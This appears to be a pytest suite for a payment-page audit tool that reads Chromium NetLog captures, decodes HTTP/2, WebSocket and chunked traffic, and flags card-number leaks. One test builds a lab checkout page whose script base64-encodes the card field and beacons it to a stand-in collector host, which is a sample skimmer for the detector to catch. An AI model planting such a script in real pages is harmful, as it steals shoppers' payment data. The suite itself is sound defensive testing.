"""The network witness: Chromium's NetLog read as a stream, the wire sweep, and failing closed when
the log is missing or cut short."""

from __future__ import annotations

import base64
import json
import struct
from pathlib import Path

import pytest

from audit.capture.netlog import NetLogError, NetLogStream
from audit.wireformat import dechunk, h2_data_by_stream, websocket_payloads
from audit.evidence import Card, WireRecord
from audit.detect.wire import wire_hits

CARD = Card(number="4000056655665556")
ROOT = Path(__file__).resolve().parent.parent


# -- reading the log ------------------------------------------------------------------------------
def _log(events: list[str], closed: bool = True) -> str:
    constants = {"logEventTypes": {"SSL_SOCKET_BYTES_SENT": 1, "SSL_SOCKET_BYTES_RECEIVED": 2},
                 "logSourceType": {"SOCKET": 10}, "logCaptureMode": "Everything", "timeTickOffset": 0}
    head = '{"constants":' + json.dumps(constants) + ",\n"
    body = '"events": [\n' + ",\n".join(events)
    return head + body + ("]," + '\n"polledData": {}\n}\n' if closed else ",\n")


def _event(kind: int, data: bytes, source: int = 7) -> str:
    return json.dumps({"params": {"byte_count": len(data), "bytes": base64.b64encode(data).decode()},
                       "phase": 0, "source": {"id": source, "type": 10}, "time": "5", "type": kind},
                      separators=(",", ":"))


def test_a_whole_log_is_read_and_received_bytes_are_never_parsed(tmp_path):
    # A received-bytes line that is not even JSON: skipped by its type number, never decoded.
    broken_received = '{"params":{"bytes":"not json at all, "phase":0,"type":2}'
    path = tmp_path / "netlog.json"
    path.write_text(_log([_event(1, b"GET / HTTP/1.1\r\n\r\n"), broken_received, _event(1, b"x")]))
    stream = NetLogStream(path)
    events = list(stream.events(["SSL_SOCKET_BYTES_SENT"]))
    assert [base64.b64decode(e.params["bytes"]) for e in events] == [b"GET / HTTP/1.1\r\n\r\n", b"x"]
    assert stream.complete and stream.bad_lines == 0


def test_a_log_cut_short_is_known_as_such(tmp_path):
    path = tmp_path / "netlog.json"
    text = _log([_event(1, b"a"), _event(1, b"b")], closed=False)
    path.write_text(text + '{"params":{"bytes":"YWJj')  # the browser died mid-line
    stream = NetLogStream(path)
    assert len(list(stream.events(["SSL_SOCKET_BYTES_SENT"]))) == 2
    assert not stream.complete


def test_a_corrupt_line_inside_the_log_is_counted(tmp_path):
    path = tmp_path / "netlog.json"
    path.write_text(_log([_event(1, b"a"), '{"params":{"bytes":"zz", "type":1}', _event(1, b"b")]))
    stream = NetLogStream(path)
    list(stream.events(["SSL_SOCKET_BYTES_SENT"]))
    assert stream.bad_lines == 1


@pytest.mark.parametrize("content", [None, "", "not a netlog\n"])
def test_a_missing_or_foreign_log_cannot_be_read(tmp_path, content):
    path = tmp_path / "netlog.json"
    if content is not None:
        path.write_text(content)
    with pytest.raises(NetLogError):
        list(NetLogStream(path).events(["SSL_SOCKET_BYTES_SENT"]))


# -- the wire sweep -------------------------------------------------------------------------------
def _h2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def test_http2_header_blocks_are_decoded_before_the_search():
    """HPACK Huffman-codes header values: the card in an HTTP/2 :path is not in the raw bytes."""
    from hpack import Encoder

    block = Encoder().encode([(":method", "GET"), (":path", "/c?n=4000056655665556"),
                              (":authority", "h2.collector.test")], huffman=True)
    assert b"4000056655665556" not in block
    sent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _h2_frame(0x4, 0, 0, b"") + _h2_frame(0x1, 0x5, 1, block)
    wire = WireRecord(id="c1", host="h2.collector.test", port=443, protocol="h2",
                      sent_b64=base64.b64encode(sent).decode())
    hits = wire_hits((wire,), CARD)
    assert any(match.field == "number" and what == "headers" for _w, what, _d, match in hits)


def test_http2_data_frames_make_each_streams_body():
    sent = _h2_frame(0x0, 0, 3, b"card=4000") + _h2_frame(0x0, 0x8, 5, b"\x02xy\0\0") + \
        _h2_frame(0x0, 0x1, 3, b"056655665556")
    assert h2_data_by_stream(sent) == {3: b"card=4000056655665556", 5: b"xy"}


def test_websocket_frames_are_unmasked_and_chunked_bodies_joined():
    mask = b"\x01\x02\x03\x04"
    payload = b'{"pan":"4000056655665556"}'
    frame = bytes([0x81, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    assert websocket_payloads(frame) == [payload]
    assert dechunk(b"5\r\n40000\r\nb\r\n56655665556\r\n0\r\n\r\n") == b"4000056655665556"
    head = b"GET /socket HTTP/1.1\r\nHost: ws.collector.test\r\nUpgrade: websocket\r\n\r\n"
    wire = WireRecord(id="c2", host="ws.collector.test", sent_b64=base64.b64encode(head + frame).decode())
    assert any(what == "websocket frame" for _w, what, _d, m in wire_hits((wire,), CARD))


def test_credentials_in_the_sent_bytes_are_redacted_unless_they_carry_the_card():
    from hpack import Decoder, Encoder

    from audit.redact import redact_wire

    keep = lambda value: "4000056655665556" in value  # noqa: E731
    head = b"GET / HTTP/1.1\r\nCookie: sid=s3cret\r\nAuthorization: Bearer t0ken\r\nCookie: pan=4000056655665556\r\n\r\n"
    assert redact_wire(head, "http/1.1", keep) == (
        b"GET / HTTP/1.1\r\nCookie: [redacted]\r\nAuthorization: [redacted]\r\nCookie: pan=4000056655665556\r\n\r\n")
    block = Encoder().encode([(":path", "/"), ("cookie", "sid=s3cret")])
    priority = b"\0\0\0\0\xff"  # Chromium sends HEADERS with the PRIORITY flag
    sent = _h2_frame(0x1, 0x24, 1, priority + block)
    out = redact_wire(sent, "h2", keep)
    assert out[9:14] == priority
    assert Decoder().decode(out[14:]) == [(":path", "/"), ("cookie", "[redacted]")]


# -- the whole run fails closed -------------------------------------------------------------------
@pytest.mark.browser
@pytest.mark.parametrize("damage, words", [
    ("truncate", "truncated"),
    ("delete", "cannot be read"),
])
def test_a_run_whose_netlog_is_damaged_is_inconclusive(tmp_path, monkeypatch, damage, words):
    """The browser really runs and writes its NetLog; the log is then cut short (as when Chromium
    dies) or lost before it is read: the run must exit 3, saying why, never pass."""
    from audit import cli
    from audit.capture.netlog import NetLogRecorder

    finish = NetLogRecorder.finish

    def damaged(self, fields):
        if self.path is not None and self.path.exists():
            if damage == "truncate":
                data = self.path.read_bytes()
                self.path.write_bytes(data[:int(len(data) * 0.6)])
            else:
                self.path.unlink()
        return finish(self, fields)

    monkeypatch.setattr(NetLogRecorder, "finish", damaged)
    out = tmp_path / "out"
    code = cli.main(["run", str(ROOT / "scenarios" / "demo-stripe.yaml"), "--out", str(out)])
    assert code == 3
    result = json.loads((out / "result.json").read_text())
    assert result["verdict"] == "inconclusive" and result["flow"]["completed"]
    assert result["capture"]["complete"] is False and words in result["capture"]["reason"]
    assert any("network witness" in e["message"] and words in e["message"] for e in result["errors"])


@pytest.mark.browser
def test_a_page_that_downloads_100_mb_is_still_judged_with_bounded_memory(tmp_path, monkeypatch):
    """Everything mode logs every byte received too: the log grows past 100 MB. It is read as a
    stream keeping only what was sent, so the run is judged (the card found), not inconclusive."""
    import tracemalloc

    from audit import cli
    from audit.capture.netlog import NetLogRecorder
    from audit.demo.lab import LabWorld

    site = tmp_path / "sites" / "shop.bigfiles.test"
    site.mkdir(parents=True)
    (site / "index.html").write_text(
        "<!DOCTYPE html><html><body><form><input id=cc name=cardnumber autocomplete=cc-number>"
        "<button id=pay type=button>Pay</button></form><p id=done hidden>Payment received</p><script>"
        "document.getElementById('pay').onclick = async function () {"
        " var b = await (await fetch('/bytes/100')).arrayBuffer();"
        " new Image().src = 'https://px.bigfiles-collector.test/p?n=' + b.byteLength + '&c=' +"
        "   btoa(document.getElementById('cc').value);"
        " document.getElementById('done').hidden = false; };</script></body></html>")
    seen: dict[str, float] = {}
    finish = NetLogRecorder.finish

    def measured(self, fields):
        seen["log_bytes"] = self.path.stat().st_size
        tracemalloc.start()
        try:
            return finish(self, fields)
        finally:
            seen["peak"] = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()

    monkeypatch.setattr(NetLogRecorder, "finish", measured)
    with LabWorld(tmp_path / "sites", extra_hosts=("px.bigfiles-collector.test",)) as world:
        hosts = "".join(f"  {h}: {a}\n" for h, a in world.host_map().items())
        scenario = tmp_path / "big.yaml"
        scenario.write_text(
            "name: a page that downloads 100 MB\nprocessor: stripe\nstart_url: https://shop.bigfiles.test/\n"
            f"offline: true\ntls: {{ignore_errors: true}}\nsettle_ms: 500\nhosts:\n{hosts}steps:\n"
            "  - type: {selector: \"#cc\", value: \"{card.number}\"}\n  - click: \"#pay\"\n"
            "  - wait_for: {text: Payment received, timeout_ms: 120000}\n")
        code = cli.main(["run", str(scenario), "--out", str(tmp_path / "out")])
        received = [r for r in world.received if r.host == "px.bigfiles-collector.test"]
    result = json.loads((tmp_path / "out" / "result.json").read_text())
    assert code == 1, result["errors"]
    assert result["capture"]["complete"] and not result["errors"]
    (finding,) = [f for f in result["findings"] if f["rule"] == "card-data-egress"]
    assert finding["host"] == "px.bigfiles-collector.test" and finding["encoding"] == "base64"
    assert received and "n=104857600" in received[0].path  # the page had all 100 MiB
    assert seen["log_bytes"] > 200 << 20           # the download is in the log...
    assert seen["peak"] < 64 << 20, seen             # ...and never held in memory


def test_both_witnesses_survive_the_round_trip_through_result_json():
    """`check` and `report` rebuild Evidence from result.json: seen_by, sender, wire and capture too."""
    from audit.detect.policy import HostPolicy
    from audit.evidence import CaptureRecord, Evidence, RequestRecord
    from audit.profiles import builtin_profile
    from audit.result import build_result, evidence_from_result

    sent = b"POST /b HTTP/1.1\r\nHost: leave.test\r\nContent-Length: 21\r\n\r\ncard=4000056655665556"
    evidence = Evidence(
        scenario_name="s", scenario_file="s.yaml", processor="stripe", start_url="https://shop.test/",
        card=CARD, started_at="2026-01-01T00:00:00+00:00", completed=True,
        requests=(RequestRecord(id="r1", method="POST", url="https://leave.test/b", host="leave.test",
                                resource_type="beacon", frame_url=None, source="unknown", channel="beacon",
                                seen_by=("network",), sender="a document or worker of https://shop.test"),),
        wire=(WireRecord(id="c1", host="leave.test", port=443, sent_b64=base64.b64encode(sent).decode(),
                         request_ids=("r1",)),),
        capture=CaptureRecord(witnesses=("page", "network"), complete=True))
    assert Evidence.from_dict(json.loads(json.dumps(evidence.to_dict()))) == evidence
    policy = HostPolicy.build(builtin_profile("stripe"), evidence.start_url)
    result = build_result(evidence, policy)
    assert {k: result["capture"][k] for k in ("witnesses", "complete", "reason", "both", "page_only",
                                               "network_only")} == {
        "witnesses": ["page", "network"], "complete": True, "reason": None, "both": 0, "page_only": 0,
        "network_only": 1}
    again = evidence_from_result(json.loads(json.dumps(result)))
    assert again.wire == evidence.wire and again.capture == evidence.capture
    assert again.requests[0].seen_by == ("network",) and again.requests[0].sender == evidence.requests[0].sender
    assert build_result(again, policy)["findings"] == result["findings"]
